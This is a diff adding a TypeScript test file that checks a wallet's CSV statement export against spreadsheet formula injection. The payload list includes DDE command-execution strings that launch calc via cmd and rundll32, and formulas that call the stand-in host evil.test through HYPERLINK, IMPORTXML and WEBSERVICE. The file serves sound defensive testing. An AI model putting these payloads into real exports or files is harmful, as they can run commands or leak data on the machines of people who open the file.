@@ -1,0 +1,133 @@
+import { expect, test } from 'vitest'
+import { renderCsv } from '../../wallet/statements/csv.ts'
+import { csvLine } from '../../wallet/statements/csv-cell.ts'
+import { readCsv } from '../../wallet/testing/csv-reader.ts'
+import { proofFigure } from '../proof-scale.ts'
+
+/** Attack T17: text that a spreadsheet would take for a formula, in every cell of an export. */
+const payloads = [
+  '1+1',
+  'SUM(A1:A9)',
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("http://evil.test","x")',
+  'IMPORTXML("http://evil.test","//a")',
+  'WEBSERVICE("http://evil.test")',
+  'DDE("cmd";"/C calc";"1")',
+  'A1&A2',
+  "10+20+cmd|'/C calc'!Z0",
+  "rundll32|'URL.dll,OpenURL calc.exe'!A",
+]
+const starters = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '\t=',
+  '\r=',
+  '\n=',
+  '\uFF1D',
+  '\uFF0B',
+  '\uFF0D',
+  '\uFF20',
+  '\u2212',
+]
+const breaks = [
+  (formula: string) => formula,
+  (formula: string) => `  ${formula}`,
+  (formula: string) => `x;${formula}`,
+  (formula: string) => `x;  ${formula}`,
+  (formula: string) => `x",${formula}`,
+  (formula: string) => `"${formula}`,
+  (formula: string) => `x\t${formula}`,
+  (formula: string) => `x\r\n${formula}`,
+  (formula: string) => `x\u2028${formula}`,
+  (formula: string) => `x|${formula}`,
+  (formula: string) => `\u200B${formula}`,
+  (formula: string) => `\uFEFF${formula}`,
+]
+const attacks = starters.flatMap((starter) =>
+  payloads.flatMap((payload) => breaks.map((broken) => broken(starter + payload))),
+)
+
+const decimal = /^-?\d+(\.\d+)?$/
+/** Whether a spreadsheet would reckon with a cell; shapeless letters and quotes before it do not help. */
+const isFormula = (cell: string) =>
+  !decimal.test(cell) && /^[\s"\p{Cf}\p{Cc}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\u2212]/u.test(cell)
+
+/** The formulas that spreadsheets of all countries would find in a file. */
+function formulasIn(file: string): string[] {
+  return [',', ';', '\t', '|'].flatMap((separator) =>
+    readCsv(file, separator).flatMap((row) => row.filter(isFormula)),
+  )
+}
+
+type Line = (cells: readonly string[]) => string
+const found = (line: Line) =>
+  attacks.filter((attack) => formulasIn(line(['Recharge', attack, '1', 'end'])).length > 0)
+
+test('no text of an attacker is a formula in any cell, whatever parts the cells', () => {
+  expect(attacks.length).toBeGreaterThan(1_000)
+  expect(found(csvLine)).toEqual([])
+  proofFigure('formulas in exported CSV', `${attacks.length} texts × 4 separators, 0 formulas`)
+})
+
+test('what was no attack reads as it was written', () => {
+  const plain = [
+    'Recharge',
+    '-12.50000001',
+    '0',
+    '2026-11-20T22:58:00+08:00',
+    'ฝากเงิน',
+    'a "b", c',
+    '',
+  ]
+  expect(readCsv(csvLine(plain))).toEqual([plain])
+})
+
+test('a whole statement whose names are attacks holds no formula', async () => {
+  const kinds = attacks.slice(0, 600)
+  const entries = kinds.map((kind, index) => ({
+    at: index,
+    kind,
+    orderNo: kind,
+    amount: -1n as never,
+    after: 0n as never,
+  }))
+  const file = await renderCsv(
+    {
+      lang: 'en-us',
+      uid: '=1+1',
+      beginAt: 0,
+      endAt: 1,
+      writtenAt: 1,
+      isSandbox: true,
+      accounts: kinds
+        .map((kind) => ({
+          kind,
+          currency: kind,
+          opening: 0n as never,
+          sum: 0n as never,
+          closing: 0n as never,
+          entries,
+        }))
+        .slice(0, 3),
+    },
+    () => undefined,
+  )
+  expect(formulasIn(Buffer.from(file).toString())).toEqual([])
+})
+
+test.each<[string, Line]>([
+  ['cells stand as they are', (cells) => `${cells.join(',')}\r\n`],
+  [
+    'cells are quoted and no more',
+    (cells) => `${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\r\n`,
+  ],
+  [
+    'an apostrophe leads only what begins the cell',
+    (cells) =>
+      `${cells.map((cell) => `"${cell.replace(/^(?=[=+\-@])/, "'").replaceAll('"', '""')}"`).join(',')}\r\n`,
+  ],
+])('the attack bites where %s', (_, hole) => {
+  expect(found(hole).length).toBeGreaterThan(100)
+})
